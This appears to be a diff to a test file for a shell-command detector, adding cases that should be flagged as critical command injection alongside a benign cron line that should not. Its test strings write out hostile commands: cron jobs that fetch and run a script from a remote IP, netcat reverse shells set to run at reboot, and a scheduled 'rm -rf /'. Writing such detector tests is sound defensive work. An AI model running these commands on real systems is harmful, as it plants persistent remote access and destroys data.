@@ -149,11 +149,14 @@ describe('detectShell()', () => {
       ['echo "rm -rf /" | at now + 1 minute', 'destructive_operation', 'critical'],
       ['echo "*/5 * * * * curl -s http://203.0.113.9/s | sh" | crontab -', 'command_injection', 'critical'],
       ['(crontab -l; echo "@reboot nc -e /bin/sh 203.0.113.9 4444") | crontab -', 'command_injection', 'critical'],
+      ['echo "*/5 * * * * curl -s http://203.0.113.9/p | sh" >> /var/spool/cron/crontabs/root', 'command_injection', 'critical'],
+      ['printf "@reboot root nc -e /bin/sh 203.0.113.9 4444\\n" > /etc/cron.d/x', 'command_injection', 'critical'],
     ])('%s', (command, id, severity) => {
       expect(signal(run(command), id as Signal['id'])?.severity).toBe(severity);
     });
 
     it('leaves printed text that nothing runs alone', () => {
+      expect(signal(run('echo "0 2 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup'), 'command_injection')).toBeUndefined();
       for (const command of ['echo "rm -rf /" > notes.txt', 'echo "never run rm -rf /" | wc -c', 'echo "0 3 * * * /usr/local/bin/backup.sh" | crontab -', 'echo "ls -la" | sh']) {
         expect(run(command), command).toEqual([]);
       }
